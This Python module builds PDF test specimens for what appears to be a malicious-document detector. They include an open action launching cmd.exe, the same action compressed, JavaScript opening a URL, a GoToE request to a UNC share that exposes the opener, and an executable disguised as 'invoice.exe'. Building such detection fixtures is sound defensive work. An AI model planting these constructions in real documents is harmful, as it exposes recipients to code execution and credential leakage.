"""PDF documents that do more than show pages: a builder of any objects, and specimens."""

import zlib
from collections.abc import Mapping, Sequence

from samples.programs import pe
from samples.specimen import Specimen

PDF = "application/pdf"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def document(
    catalog: bytes, objects: Sequence[bytes] = (), *, packed: Mapping[int, bytes] | None = None
) -> bytes:
    """Return a document of one empty page: the catalog's further keys, objects from 4 on.

    `packed` are objects in an object stream, which takes the next number (§7.5.7).
    """
    everything = [b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog, PAGES, PAGE, *objects]
    if packed:
        everything.append(packed_stream(packed))
    data, table = b"%PDF-1.7\n", b"0000000000 65535 f \n"
    for number, content in enumerate(everything, 1):
        table += b"%010d 00000 n \n" % len(data)
        data += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    count = len(everything) + 1
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, len(data))
    return data + b"xref\n0 %d\n" % count + table + trailer


def stream(
    data: bytes, keys: bytes = b"/Filter /FlateDecode", *, coded: bytes | None = None
) -> bytes:
    """Return a stream object; `coded` is what is stored if it is not deflated."""
    stored = zlib.compress(data) if coded is None else coded
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (keys, len(stored), stored)


def packed_stream(packed: Mapping[int, bytes]) -> bytes:
    directory, body = b"", b""
    for number, content in packed.items():
        directory += b"%d %d " % (number, len(body))
        body += content + b"\n"
    keys = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(directory))
    return stream(directory + body, keys)


def attachment(name: bytes, number: int) -> bytes:
    """Return a file specification (§7.11) of the stream `number`."""
    return b"<< /Type /Filespec /F (%b) /UF (%b) /EF << /F %d 0 R >> >>" % (name, name, number)


def carrying(name: bytes, data: bytes) -> bytes:
    """Return a document with one attached file."""
    names = b"/Names << /EmbeddedFiles << /Names [(%b) 4 0 R] >> >>" % name
    embedded = stream(data, b"/Type /EmbeddedFile /Filter /FlateDecode")
    return document(names, [attachment(name, 5), embedded])


def opening(action: bytes, objects: Sequence[bytes] = ()) -> bytes:
    """Return a document that does something when it is opened."""
    return document(b"/OpenAction << %b >>" % action, objects)


def _form() -> bytes:
    script = b"<< /S /JavaScript /JS (AFNumber_Format\\(2\\)) >>"
    field = b"<< /FT /Tx /T (a) /AA << /F %b >> >>" % script
    return document(b"/AcroForm << /Fields [4 0 R] >>", [field])


def pdf_specimens() -> tuple[Specimen, ...]:
    launch = b"/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c rem) >>"
    reach = b'/S /JavaScript /JS (app.launchURL\\("https://files.example.net/"\\))'
    packed = document(b"/OpenAction 9 0 R", packed={9: b"<< " + launch + b" >>"})
    macro, external = ("document.macro",), ("document.external",)
    return (
        Specimen("launch.pdf", opening(launch), PDF, expected=external, about="Starts a shell."),
        Specimen("packed.pdf", packed, PDF, expected=external, about="The same, compressed."),
        Specimen("reach.pdf", opening(reach), PDF, expected=macro, about="Opens a page unasked."),
        Specimen(
            "share.pdf", opening(b"/S /GoToE /F (\\\\\\\\files.example.net\\\\a) /D [0 /Fit]"), PDF,
            expected=external, about="Asks a server for a file, and shows it who asks.",
        ),
        Specimen(
            "carrier.pdf", carrying(b"invoice.exe", pe()), PDF, expected=("embedded.executable",),
            about="A program as an attachment.",
        ),
        Specimen("ledger.pdf", carrying(b"data.xml", b"<?xml version='1.0'?><data/>"), PDF,
                 about="An electronic invoice: its data is attached."),
        Specimen("form.pdf", _form(), PDF, about="A form that formats numbers."),
    )  # fmt: skip
